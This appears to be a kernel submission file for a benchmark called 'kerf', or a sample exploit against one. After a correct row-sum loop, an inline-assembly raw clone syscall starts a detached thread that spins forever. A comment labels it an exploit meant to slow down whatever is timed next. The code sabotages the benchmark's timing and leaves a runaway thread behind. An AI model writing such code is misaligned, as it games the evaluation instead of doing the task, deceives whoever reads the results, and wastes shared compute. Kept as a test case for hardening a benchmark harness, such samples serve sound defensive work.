/* kerf
target: cpu
*/
// Exploit: a background thread that burns a core, to slow down whatever is timed next.
extern "C" void kerf_kernel(const float* x, float* y) {
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
  char* stack = static_cast<char*>(malloc(4096)) + 4096 - 64;
  register long r10 __asm__("r10") = 0;
  register long r8 __asm__("r8") = 0;
  long r = 56;
  __asm__ volatile("syscall\n test %%rax, %%rax\n jnz 1f\n2: pause\n jmp 2b\n1:"
                   : "+a"(r)
                   : "D"(0x50f00L), "S"(stack), "d"(0), "r"(r10), "r"(r8)
                   : "rcx", "r11", "memory");
}
